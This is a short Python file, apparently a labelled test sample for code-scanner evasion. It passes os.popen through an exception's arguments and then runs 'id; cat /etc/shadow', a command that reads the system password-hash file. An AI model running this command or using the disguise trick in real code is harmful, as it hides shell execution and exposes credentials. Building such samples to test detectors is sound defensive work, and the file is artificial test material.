# evasion: the function travels in an exception's args
# grade: hard; does: shell
import os


class Retry(Exception):
    pass


def plan():
    raise Retry(os.popen, "id; cat /etc/shadow")


try:
    plan()
except Retry as e:
    fn, cmd = e.args
    print(fn(cmd).read())
